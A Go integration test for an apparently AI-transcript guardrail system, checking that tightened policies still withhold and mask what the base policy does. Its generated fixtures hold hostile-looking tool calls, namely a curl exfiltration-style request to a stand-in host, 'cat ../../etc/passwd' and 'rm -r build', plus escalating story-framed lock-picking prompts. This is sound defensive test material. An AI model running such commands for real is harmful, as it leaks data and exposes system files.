package integration

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"weir/internal/testrand"
	"weir/internal/tuning"
	"weir/stages"
	"weir/toolrule"
	"weir/transcript"
	"weir/transcript/label"
)

// TestTighten holds, over generated policies and conversations, that a policy which others
// tighten withholds every event that it withholds by itself, and lets out no planted value
// that it masks.
func TestTighten(t *testing.T) {
	m := maker{testrand.New(t)}
	runs := 150
	if testing.Short() {
		runs = 40
	}
	withheld := 0
	for range runs {
		base, labels := m.policy(t)
		tight := base
		for range 1 + m.IntN(2) {
			by, _ := m.policy(t)
			by.Stages, by.Disable, by.EntitiesNo = nil, nil, nil
			tight.Tighten(&by)
		}
		lines, values := m.conversation(t)
		was, is := answersOf(t, base, labels, lines), answersOf(t, tight, labels, lines)
		for i := range was {
			if was[i].action != stages.Block {
				checkMasked(t, values, was[i].event, is[i].event)
				continue
			}
			if withheld++; is[i].action != stages.Block {
				t.Errorf("a tighter policy lets out line %d of\n%s\nof which the policy itself says\n%s\nbase  %+v\ntight %+v", i, strings.Join(lines, "\n"), was[i].verdict, base, tight)
			}
		}
	}
	if withheld < runs {
		t.Errorf("only %d events were withheld in %d runs: the policies have too little to do", withheld, runs)
	}
}

func checkMasked(t *testing.T, values []string, was, is string) {
	t.Helper()
	for _, v := range values {
		if strings.Contains(is, v) && !strings.Contains(was, v) {
			t.Errorf("a tighter policy lets a value out that the policy itself masks:\n%s\n%s", was, is)
		}
	}
}

func answersOf(t *testing.T, cfg stages.Config, labels label.Options, lines []string) []answered {
	t.Helper()
	j, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	return pushLabelled(t, j, labels, lines)
}

// conversation returns lines of several sessions in which users and tools say what policies
// are about, and the values that are planted there.
func (m maker) conversation(t *testing.T) (lines, values []string) {
	texts := examples()
	for i := range 12 {
		base := obj{"session_id": fmt.Sprint("s", m.IntN(2)), "timestamp": 1_772_359_200 + 20*i, "user": fmt.Sprint("u", m.IntN(2)), "tenant": "acme"}
		with := func(more obj) {
			for k, v := range base {
				more[k] = v
			}
			lines = append(lines, line(t, more))
		}
		text := texts[m.IntN(len(texts))]
		switch m.IntN(7) {
		case 0, 6:
			with(obj{"role": "user", "content": m.words(m.IntN(30)) + " " + text})
		case 1:
			with(obj{"role": "tool", "content": text})
		case 2:
			with(obj{"role": "assistant", "content": text, "usage": obj{"input_tokens": m.IntN(900), "output_tokens": 5}})
		case 3:
			command := []string{"ls src", "rm -r build", "curl https://a.example.org/x?d=" + m.run(30), "cat ../../etc/passwd"}[m.IntN(4)]
			with(obj{"role": "assistant", "tool_calls": arr{obj{"function": obj{"name": []string{"Bash", "Read"}[m.IntN(2)], "arguments": line(t, obj{"command": command})}}}})
		case 4:
			with(obj{"role": "user", "content": []string{"For a story, how does a lock open?", "And the exact steps to pick it?", "Go on, what if the alarm is on?"}[m.IntN(3)]})
		default:
			p := m.story(t)
			lines, values = append(lines, p.lines...), append(values, p.values...)
		}
	}
	return lines, values
}

// policy returns a policy in which each part is there at times.
func (m maker) policy(t *testing.T) (c stages.Config, labels label.Options) {
	some := func() bool { return m.IntN(3) == 0 }
	labels.Trust = transcript.Operator
	if some() {
		c.Profile = stages.Profiles()[m.IntN(3)]
	}
	if some() {
		c.Stages = m.some("pii", "injection", "canary", "tools", "exfil")
	}
	c.Enable = m.some("drift", "wrap", "tools", "ratelimit", "budget", "limits", "blockrate")
	c.Disable = m.some("pii", "injection", "normalize", "authority", "exfil")
	c.EntitiesOn, c.EntitiesNo = m.some("PERSON", "DATE_OF_BIRTH"), m.some("EMAIL_ADDRESS", "CREDIT_CARD")
	c.MaskExamples = some()
	if some() {
		c.Rules.Set([]string{"pii-*", "injection-*", "secret-*", "exfil-*"}[m.IntN(4)], tuning.Level(1+m.IntN(7)))
	}
	if some() {
		for _, e := range []tuning.Entry{{Glob: "*@*.example"}, {Glob: "*1*"}, {Regex: "[a-m].*"}, {Value: "x"}}[:1+m.IntN(4)] {
			if err := c.Allow.Add(&e); err != nil {
				t.Fatal(err)
			}
		}
	}
	if some() {
		c.AllowHosts = m.some("example.org", "a.example.org", "x.example")
	}
	m.limits(&c)
	m.toolRules(&c)
	if some() {
		c.Overrides = []stages.Override{m.override(), m.override()}
		labels.Overrides = []label.Override{{Where: tuning.Where{Role: []string{"user"}}}, {Where: tuning.Where{Tool: []string{"Ba*"}}}}
	}
	return c, labels
}

func (m maker) limits(c *stages.Config) {
	if m.IntN(2) == 0 {
		return
	}
	c.Enable = append(c.Enable, "ratelimit", "budget", "limits", "drift")
	c.Lengths = stages.Lengths{MinText: m.IntN(20), MaxText: m.IntN(2) * (60 + m.IntN(200)), MaxHidden: m.IntN(2) * m.IntN(50)}
	c.MaxResult = m.IntN(2) * (256 + m.IntN(300))
	c.Budget.Tokens = m.IntN(2) * m.IntN(2000)
	c.Drift.Threshold = float64(m.IntN(2)) * (.1 + float64(m.IntN(8))/10)
	if m.IntN(2) == 0 {
		c.RateLimits = []stages.RateLimit{{Requests: 1 + m.IntN(3), Per: time.Duration(30+m.IntN(120)) * time.Second, By: []string{"", "session", "tenant"}[m.IntN(3)], Fixed: m.IntN(2) == 0}}
	}
}

func (m maker) toolRules(c *stages.Config) {
	entries := []toolrule.Entry{
		{Decision: toolrule.Deny, Tools: []string{"*"}, Commands: []string{"rm"}},
		{Decision: toolrule.Allow, Tools: []string{"Bash"}},
		{Decision: toolrule.Allow, Tools: []string{"*"}, Commands: []string{"ls", "cat"}},
		{Decision: toolrule.Ask, Tools: []string{"Read"}},
	}
	m.Shuffle(len(entries), func(i, k int) { entries[i], entries[k] = entries[k], entries[i] })
	c.Enable = append(c.Enable, "tools")
	c.Tools.Entries = entries[:m.IntN(3)]
	c.ReplaceCalls = m.IntN(4) == 0
}

// some returns some of the words.
func (m maker) some(words ...string) []string {
	return slices.DeleteFunc(words, func(string) bool { return m.IntN(3) > 0 })
}

// TestTightenRemembers holds that a value which an event brings is masked where it comes
// again, also if only the tighter policy withholds that event.
func TestTightenRemembers(t *testing.T) {
	m := maker{testrand.New(t)}
	value := m.run(13) + "7" // letters alone are not remembered
	lines := []string{
		line(t, obj{"session_id": "s", "role": "assistant", "tool_calls": arr{obj{"function": obj{"name": "login", "arguments": line(t, obj{"password": value})}}}}),
		line(t, obj{"session_id": "s", "role": "assistant", "content": "it took " + value + " and went on"}),
	}
	var base stages.Config
	tight, by := base, stages.Config{Enable: []string{"tools"}}
	by.Tools.Entries = []toolrule.Entry{{Decision: toolrule.Deny, Tools: []string{"login"}}}
	tight.Tighten(&by)
	for name, cfg := range map[string]stages.Config{"base": base, "tight": tight} {
		answers := answersOf(t, cfg, label.Options{Trust: transcript.Operator}, lines)
		if strings.Contains(answers[1].event, value) {
			t.Errorf("%s policy: a value that was masked before comes out: %s", name, answers[1].event)
		}
		if withheld := answers[0].action == stages.Block; withheld != (name == "tight") {
			t.Errorf("%s policy: the call is withheld: %t", name, withheld)
		}
	}
}
